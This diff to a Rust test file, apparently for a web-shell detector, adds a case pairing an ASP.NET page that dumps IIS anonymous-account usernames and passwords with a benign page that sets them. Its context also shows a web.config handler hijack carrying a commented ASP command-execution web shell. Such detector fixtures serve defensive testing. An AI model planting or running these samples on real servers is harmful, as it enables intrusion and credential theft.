@@ -412,6 +412,11 @@ fn cases() -> Vec<Case> {
             "<%\nOn Error Resume Next\nSet c = Server.CreateObject(\"ADODB.Connection\")\nc.ConnectionTimeout = 15\nc.Open \"Provider=SQLOLEDB;Data Source=\" & Application(\"dbhost\") & \";Initial Catalog=shop;Integrated Security=SSPI\"\nIf Err.Number = -2147217843 Then Response.Write \"The shop database refused the login.\"\n%>\n",
         ),
         case(
+            "EXRAY_IIS_Metabase_Password_Read",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices\" %>\n<% var w3 = new DirectoryEntry(\"IIS://localhost/W3SVC\");\nforeach (DirectoryEntry site in w3.Children) {\n  var root = site.Children.Find(\"root\", \"IIsWebVirtualDir\");\n  Response.Write(root.Properties[\"AnonymousUserName\"].Value + \":\" + root.Properties[\"AnonymousUserPass\"].Value + \"<br>\");\n} %>\n",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices\" %>\n<% var root = new DirectoryEntry(\"IIS://localhost/W3SVC/\" + siteId + \"/root\");\nroot.Properties[\"AnonymousUserName\"].Value = account.Text;\nroot.Properties[\"AnonymousUserPass\"].Value = password.Text;\nroot.CommitChanges(); %>\n",
+        ),
+        case(
             "EXRAY_WebConfig_Handler_Hijack",
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers accessPolicy=\"Read, Script, Write\">\n   <add name=\"cfg\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" />\n  </handlers>\n  <security><requestFiltering><fileExtensions><remove fileExtension=\".config\" /></fileExtensions></requestFiltering></security>\n </system.webServer>\n</configuration>\n<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec(Request(\"q\")).StdOut.ReadAll()) %> -->\n",
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers>\n   <add name=\"ExtensionlessUrl\" path=\"*.\" verb=\"GET,HEAD\" type=\"System.Web.Handlers.TransferRequestHandler\" preCondition=\"integratedMode\" />\n  </handlers>\n </system.webServer>\n <appSettings><add key=\"greeting\" value=\"&lt;%= hello %&gt;\" /></appSettings>\n</configuration>\n",
